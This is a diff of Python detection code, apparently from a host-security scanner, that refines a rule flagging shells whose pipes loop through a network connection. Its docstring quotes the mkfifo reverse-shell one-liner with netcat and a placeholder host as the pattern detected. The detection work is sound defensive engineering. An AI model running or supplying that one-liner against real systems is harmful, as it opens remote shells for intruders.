@@ -77,21 +77,20 @@ def _relay(s: Sample, p: ProcessInfo) -> Connection | None:
     network whose output comes back as the shell's input, directly or through one more process (the
     mkfifo reverse shell: `cat f | sh -i 2>&1 | nc HOST PORT > f`). Matched on the standard streams'
     link texts (`pipe:[N]`, a FIFO's path); None when the shell is in no such loop."""
-    if p.stdin is None or p.stdout is None or not _piped(p.stdin) or p.stdout.kind != "pipe":
-        return None
     readers: dict[str, list[ProcessInfo]] = {}
     for q in s.processes:
         if q.stdin is not None and _piped(q.stdin) and q.pid != p.pid:
             readers.setdefault(q.stdin.target, []).append(q)
     conns = {c.pid: c for c in s.connections if c.pid is not None and not is_loopback(c.remote.address)}
-    for relay in readers.get(p.stdout.target, ()):
+    stdin, stdout = p.stdin.target if p.stdin else "", p.stdout.target if p.stdout else ""
+    for relay in readers.get(stdout, ()):
         c = conns.get(relay.pid)
-        if c is None or relay.stdout is None or not _piped(relay.stdout):
+        if c is None or relay.stdout is None or not _piped(relay.stdout) or relay.stdout.target == stdout:
             continue
         back = relay.stdout.target
         # One hop back: a process reading `back` on its stdin, or given it as an argument (`cat f`).
         hops = [*readers.get(back, ()), *(q for q in s.processes if back in q.argv[1:])]
-        if back == p.stdin.target or any(h.stdout is not None and h.stdout.target == p.stdin.target for h in hops):
+        if back == stdin or any(h.stdout is not None and h.stdout.target == stdin for h in hops):
             return c
     return None
 
@@ -112,7 +111,15 @@ def process_reverse_shell(inp: RuleInput) -> Sequence[Finding]:
     for p in s.processes:
         streams = [(fd, st) for fd, st in (("stdin", p.stdin), ("stdout", p.stdout)) if st and st.kind == "socket"]
         if not streams:
-            if p.stdout is not None and p.stdout.kind == "pipe" and (what := tools.shell_or_interpreter(p)):
+            # Cheap tests first (most processes read /dev/null): stdin piped, stdout a pipe, not one and the same.
+            if (
+                p.stdin is not None
+                and p.stdout is not None
+                and p.stdout.kind == "pipe"
+                and _piped(p.stdin)
+                and p.stdin.target != p.stdout.target
+                and (what := tools.shell_or_interpreter(p))
+            ):
                 relayed = _relay(s, p)
                 if relayed is not None:
                     via = connection_evidence(s, relayed, interpreter=what, relay=relayed.pid)
